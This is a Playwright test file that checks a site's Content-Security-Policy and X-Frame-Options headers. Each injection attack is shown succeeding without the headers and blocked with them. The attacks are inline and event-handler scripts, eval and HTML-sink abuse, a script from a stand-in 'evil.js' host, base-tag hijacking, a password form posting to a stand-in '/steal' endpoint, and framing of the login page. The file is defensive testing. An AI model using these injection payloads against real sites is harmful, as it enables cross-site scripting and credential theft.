// Each attack runs twice. Without the policy, the attack succeeds. With Hosting's headers, the browser stops it.
import type { Page } from 'playwright/test';
import { expect, test } from '../support/fixtures';

const OTHER_ORIGIN = 'http://stranger.example';
const INJECTED_SCRIPT = "document.documentElement.dataset.hacked = 'yes';";

/** Serves `path` with `markup` in its head and without some headers. */
async function serveInjected(page: Page, path: string, markup: string, removedHeaders: string[]): Promise<void> {
  await page.route(path, async (route) => {
    const response = await route.fetch();
    const headers = Object.fromEntries(
      Object.entries(response.headers()).filter(([name]) => !removedHeaders.includes(name)),
    );
    const body = (await response.text()).replace('<head>', () => `<head>${markup}`);
    await route.fulfill({ response, headers, body });
  });
}

/** Acts as a third-party server, and returns the requests it gets. */
async function serveOtherOrigin(page: Page, body: string): Promise<string[]> {
  const requests: string[] = [];
  const contentType = body.startsWith('<') ? 'text/html' : 'text/javascript';
  await page.route(`${OTHER_ORIGIN}/**`, async (route) => {
    requests.push(`${route.request().method()} ${route.request().url()}`);
    await route.fulfill({ body, contentType });
  });
  return requests;
}

const INJECTED_IMAGE = JSON.stringify(`<img src="/nothing.png" onerror="${INJECTED_SCRIPT}">`);
/** Scripts of our own that an attacker could abuse. */
const WEAK_SCRIPTS = {
  '/assets/eval.js': `eval(${JSON.stringify(INJECTED_SCRIPT)})`,
  '/assets/markup.js': `document.documentElement.insertAdjacentHTML('beforeend', ${INJECTED_IMAGE})`,
};

/** Runs in the page. */
const postForm = (url: string) => {
  const form = document.createElement('form');
  form.method = 'post';
  form.action = url;
  document.body.append(form);
  form.submit();
};

const ATTACKS: readonly (readonly [name: string, markup: string, violation: string])[] = [
  ['an inline script', `<script>${INJECTED_SCRIPT}</script>`, 'script-src-elem inline'],
  [
    'an inline event handler',
    `<link rel="stylesheet" href="/nothing.css" onerror="${INJECTED_SCRIPT}">`,
    'script-src-attr inline',
  ],
  ...Object.keys(WEAK_SCRIPTS).map(
    (path) =>
      [
        `our own script ${path}`,
        `<script src="${path}"></script>`,
        'require-trusted-types-for trusted-types-sink',
      ] as const,
  ),
  [
    'a third-party script',
    `<script src="${OTHER_ORIGIN}/evil.js"></script>`,
    `script-src-elem ${OTHER_ORIGIN}/evil.js`,
  ],
  ['a <base> that sends relative URLs to another site', `<base href="${OTHER_ORIGIN}/">`, `base-uri ${OTHER_ORIGIN}/`],
  ['a form that sends a password to another site', '', `form-action ${OTHER_ORIGIN}/steal`],
];

for (const [name, markup, violation] of ATTACKS)
  test(`the policy stops ${name}; without the policy, the attack succeeds @browser`, async ({
    page,
    context,
    watch,
  }) => {
    watch.allow(/./);
    const runAttack = async (targetPage: Page, removedHeaders: string[]) => {
      for (const [path, body] of Object.entries(WEAK_SCRIPTS))
        await targetPage.route(path, (route) => route.fulfill({ contentType: 'text/javascript', body }));
      const requests = await serveOtherOrigin(targetPage, INJECTED_SCRIPT);
      await serveInjected(targetPage, '/about', markup, removedHeaders);
      await targetPage.goto('/about');
      if (markup === '') await targetPage.evaluate(postForm, `${OTHER_ORIGIN}/steal`);
      const isHacked = (otherOrigin: string) =>
        document.documentElement.dataset.hacked === 'yes' || document.baseURI.startsWith(otherOrigin);
      const hasSucceeded = async () =>
        requests.some((request) => request.startsWith('POST')) ||
        // A page that's navigating away can't be read.
        (await targetPage.evaluate(isHacked, OTHER_ORIGIN).catch(() => false));
      return { requests, hasSucceeded };
    };
    const otherPage = await context.newPage();
    await expect.poll((await runAttack(otherPage, ['content-security-policy'])).hasSucceeded).toBe(true);
    await otherPage.close();
    expect(watch.violations).toEqual([]);

    const { requests, hasSucceeded } = await runAttack(page, []);
    await expect.poll(() => watch.violations).toContain(violation);
    // By the load event, everything on the page has run.
    await page.waitForLoadState('load');
    expect(await hasSucceeded()).toBe(false);
    expect(requests).toEqual([]);
  });

test('either of two headers keeps other sites from framing the login; without both, framing works @browser', async ({
  page,
  baseURL,
  watch,
}) => {
  watch.allow(/./);
  const loginUrl = new URL('/login', baseURL).href;
  await serveOtherOrigin(page, `<title>Stranger</title><iframe src="${loginUrl}"></iframe>`);
  const heading = page.frameLocator('iframe').getByRole('heading', { name: 'Login' });
  for (const removedHeaders of ['x-frame-options', 'content-security-policy']) {
    await serveInjected(page, loginUrl, '', [removedHeaders]);
    const blockedRequest = page.waitForEvent('requestfailed');
    await page.goto(`${OTHER_ORIGIN}/`);
    const request = await blockedRequest;
    expect(request.url()).toBe(loginUrl);
    expect(request.failure()?.errorText).toBe('net::ERR_BLOCKED_BY_RESPONSE');
    await expect.poll(() => page.frames()[1]?.url()).toBe('chrome-error://chromewebdata/');
    await expect(heading).toHaveCount(0);
  }
  await serveInjected(page, loginUrl, '', ['x-frame-options', 'content-security-policy']);
  await page.goto(`${OTHER_ORIGIN}/`);
  await expect(heading).toBeVisible();
});
